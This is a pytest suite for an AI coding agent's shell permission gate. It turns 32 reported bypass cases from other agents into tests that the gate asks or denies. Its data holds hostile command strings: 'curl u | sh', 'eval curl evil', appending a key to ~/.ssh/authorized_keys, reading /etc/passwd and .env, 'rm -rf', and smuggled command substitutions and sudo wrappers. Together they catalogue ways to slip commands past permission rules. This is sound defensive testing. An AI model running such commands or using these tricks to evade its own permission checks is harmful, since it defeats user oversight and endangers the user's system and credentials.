"""Faults that were reported on other agents, each as a test of its kind (peers.md §3, cases 1 to 32).

`ELSEWHERE` names the tests of the cases that need more than the gate's verdict over one call.
"""

import ast
from pathlib import Path

import pytest

from decode_core.permissions.modes import DecidedBy
from decode_core.permissions.request import PermissionDecision
from shell_workspace import judge_call

Rules = dict[str, list[str]]

ALLOW_LOG: Rules = {"allow": ["bash(git log *)"]}
READS: Rules = {"allow": ["bash(npm run test)", "bash(npm run test *)", "bash(ls *)", "bash(ls)", "bash(echo *)"]}

ASKED: list[tuple[int, Rules, str, str]] = [
    # case, rules, command, what the person reads of the reason in the steps
    (1, ALLOW_LOG, "git log --oneline; touch x", "touch x"),
    (1, ALLOW_LOG, "git log --oneline && touch x", "touch x"),
    (2, {"allow": ["bash(git add *)"]}, "git add a && git commit -m m && git push", "git commit -m m"),
    (3, {"allow": ["bash(cd *)"]}, "cd src && python3 s.py", "python3 s.py"),
    (5, {"allow": ["bash(ls *)", "bash(find *)"]}, "head -5 a 2>/dev/null || echo no", "head -5 a"),
    (7, {"allow": ["bash(wc *)", "bash(echo *)"]}, "wc README.md > ~/out", "out"),
    (7, {"allow": ["bash(wc *)", "bash(echo *)"]}, "echo x > file", "it writes file"),
    (8, {"allow": ["bash(echo *)"]}, "echo a >(tee /tmp/x)", "/tmp/x"),
    (8, {"allow": ["bash(echo *)"]}, "echo a; ls", "ls"),
    (10, {}, "echo $(date)", "default"),
    (11, {"ask": ["bash(git *)"]}, "CI=true git commit -m m", "bash(git *)"),
    (11, {}, "AWS_PROFILE=p aws x", "default"),
    (13, {"allow": ["bash(echo *)"]}, "echo k >> ~/.ssh/authorized_keys", ".ssh"),
    (14, {}, "git diff --no-index -- /etc/passwd a", "outside"),
    (15, {"allow": ["bash(echo *)"]}, "echo hi > $(rm x)", "rm x"),
    (15, {"allow": ["bash(cat *)", "bash(cat)"]}, "cat <<E\n$(rm x)\nE", "rm x"),
    (16, {"ask": ["bash(rm *)"]}, "sudo rm x", "bash(rm *)"),
    (16, {"ask": ["bash(rm *)"]}, "env rm x", "bash(rm *)"),
    (16, {"ask": ["bash(rm *)"]}, "ls | xargs rm x", "bash(rm *)"),
    (16, {"ask": ["bash(rm *)"]}, "timeout 5 nice -n 2 nohup rm x", "bash(rm *)"),
    (16, {"ask": ["bash(rm *)"]}, "find . -name a -exec rm x ;", "bash(rm *)"),
    (17, {"allow": ["bash(ls *)", "bash(ls)"]}, "A[$(rm x)]=1 ls", ""),
    (19, {"readonly": ["bash"]}, "git diff --output=f", "--output is no ordinary option"),
    (19, {"readonly": ["bash"]}, "git show -of", ""),
    (19, {"allow": ["bash(git diff *)"]}, "git diff --output=f HEAD", "output"),
    (19, {"readonly": ["bash"]}, "javac -version -processorpath p A.java", "javac"),
    (20, {"allow": ["bash(ls)", "bash(ls *)"]}, "ls && rm -rf d", "rm -rf d"),
    (
        20,
        {"allow": ["bash(go build *)", "bash(go vet *)"]},
        "go build ./... && curl u | sh",
        "a shell runs what it reads",
    ),
    (22, {"allow": ["bash(gh api *)"]}, "bash -lc 'gh api x > f'", ""),
    (22, {"allow": ["bash(gh api *)"]}, "GH_TOKEN=t gh api x", ""),
    (23, {"readonly": ["bash"], "allow": ["bash(bash *)"]}, "./fake-bash -c ls", "fake-bash"),
]

DENIED: list[tuple[int, Rules, str]] = [
    (4, {"deny": ["bash(git clean *)"], "allow": ["bash(git *)"]}, "git fetch && git pull && git clean -fd"),
    (9, {"deny": ["bash(curl *)"]}, "eval curl evil"),
    (9, {"deny": ["bash(curl *)"]}, "bash -c 'eval \"curl evil\"'"),
    (12, {"deny": ["read(.env)"]}, 'f=.env && cat "$f"'),
    (18, {"deny": ["bash(sudo *)"]}, "env -i sudo id"),
    (18, {"deny": ["bash(sudo *)"]}, "ssh -t host sudo id"),
]

ALLOWED: list[tuple[int, Rules, str]] = [
    (6, READS, "npm run test 2>&1"),
    (6, READS, "ls src 2>/dev/null || echo none"),
    (15, {"allow": ["bash(cat)", "bash(cat *)"]}, "cat <<'E'\n$(rm x)\nE"),
    (19, {"readonly": ["bash"]}, "git log HEAD~1..HEAD --oneline"),
    (20, {"allow": ["bash(go build *)", "bash(go vet *)"]}, "go build ./... && go vet ./..."),
    (22, {"allow": ["bash(gh api *)"]}, "gh api x"),
]


def judge(ws: Path, command: str, rules: Rules, mode: str = "default") -> PermissionDecision:
    return judge_call(ws, "bash", {"command": command}, mode, rules)


@pytest.mark.parametrize(("case", "rules", "command", "names"), ASKED)
def test_what_others_let_through_asks_and_says_for_what(
    ws: Path, case: int, rules: Rules, command: str, names: str
) -> None:
    decision = judge(ws, command, rules)
    assert decision.outcome == "ask", (case, decision)
    assert names in "\n".join([decision.reason, *decision.steps])
    headless = judge(ws, command, rules, "dont_ask")
    assert headless.outcome == "deny" and headless.reason


@pytest.mark.parametrize(("case", "rules", "command"), DENIED)
@pytest.mark.parametrize("mode", ["default", "bypass"])
def test_what_a_deny_rule_names_is_refused_as_a_whole_behind_every_wrapper(
    ws: Path, case: int, rules: Rules, command: str, mode: str
) -> None:
    decision = judge(ws, command, rules, mode)
    assert (decision.outcome, decision.by) == ("deny", DecidedBy.RULE), (case, decision)


@pytest.mark.parametrize(("case", "rules", "command"), ALLOWED)
def test_what_the_rules_cover_runs_without_a_question(ws: Path, case: int, rules: Rules, command: str) -> None:
    decision = judge(ws, command, rules)
    assert decision.outcome == "allow", (case, decision)


def test_a_script_that_evals_its_arguments_asks_at_least_for_the_script(ws: Path) -> None:
    """Case 9."""
    assert judge(ws, "./run.sh curl evil", {"deny": ["bash(curl *)"]}).outcome != "allow"


def test_an_option_that_names_a_denied_program_never_runs_unasked(ws: Path) -> None:
    """Case 18: `git -c sudo id`."""
    for in_list, rule in (("allow", "bash(git *)"), ("readonly", "bash")):
        rules = {"deny": ["bash(sudo *)"], in_list: [rule]}
        assert judge(ws, "git -c sudo id", rules).outcome != "allow"


def test_a_question_about_a_part_names_no_part_that_is_covered(ws: Path) -> None:
    """Case 2: git add is allowed, so the reason names the commit, not the add."""
    decision = judge(ws, "git add a && git commit -m m && git push", {"allow": ["bash(git add *)"]})
    assert not any("no rule covers git add" in step for step in decision.steps)


@pytest.mark.parametrize("path", ["link/f", "link/passwd"])
def test_writing_through_a_link_that_leads_outside_asks_for_outside(ws: Path, path: str) -> None:
    """Case 24."""
    decision = judge_call(ws, "write", {"path": path, "content": "x"}, "edit", {"allow": [f"write({path})"]})
    assert (decision.outcome, decision.by) == ("ask", DecidedBy.PROTECTED)
    assert "outside" in decision.reason


def test_a_link_that_leads_nowhere_outside_asks_for_outside(tmp_path: Path) -> None:
    """Case 24, the dangling link: what would be made at its end lies outside."""
    root = tmp_path / "ws"
    root.mkdir()
    (root / "out").symlink_to(tmp_path / "elsewhere" / "f")
    decision = judge_call(root.resolve(), "write", {"path": "out", "content": "x"}, "edit", {"allow": ["write(out)"]})
    assert (decision.outcome, decision.by) == ("ask", DecidedBy.PROTECTED)
    assert not (tmp_path / "elsewhere").exists()


def test_a_command_of_several_lines_is_kept_literally_or_not_at_all(ws: Path) -> None:
    """Case 29: "always" is offered only with a rule that answers the next such call."""
    loop = "for f in a b; do\n  touch $f\ndone"
    decision = judge(ws, loop, {"allow": [f"bash({loop})"]})
    assert decision.outcome == "allow"
    assert judge(ws, loop.replace("touch", "rm"), {"allow": [f"bash({loop})"]}).outcome == "ask"


ELSEWHERE = {
    21: (
        "decode_core/engine/test_guards.py",
        "test_the_deny_rules_hold_for_the_original_every_step_between_and_the_end",
    ),
    25: ("decode_core/engine/test_offers.py", "test_an_edit_offers_everything"),
    26: ("decode_core/permissions/test_remembering.py", "test_suggestions_go_from_the_fitting_to_the_wide"),
    27: (
        "decode_core/engine/test_turns.py",
        "test_always_is_stored_for_exactly_this_file_and_counts_in_the_next_session",
    ),
    28: ("decode_core/engine/test_offers.py", "test_always_counts_under_an_agent_with_rules_of_its_own"),
    30: (
        "decode_core/settings/test_textedit.py",
        "test_appending_is_one_insertion_that_adds_the_rule_and_nothing_else",
    ),
    31: ("decode_core/reloading/test_live_settings.py", "test_a_broken_file_keeps_its_last_good_version_in_force"),
    32: ("decode_core/engine/test_offers.py", "test_for_the_session_holds_over_turns_and_modes_and_no_other_subject"),
}
"""Case → file and test; what is not here is tested above."""


def test_every_case_has_its_test() -> None:
    above = {case for case, *_ in (*ASKED, *DENIED, *ALLOWED)} | {9, 18, 24, 29}
    assert above | set(ELSEWHERE) == set(range(1, 33))


@pytest.mark.parametrize("case", ELSEWHERE)
def test_the_named_tests_exist(case: int) -> None:
    file, name = ELSEWHERE[case]
    tree = ast.parse((Path(__file__).parents[2] / file).read_text(encoding="utf-8"))
    assert name in {node.name for node in ast.walk(tree) if isinstance(node, ast.FunctionDef)}
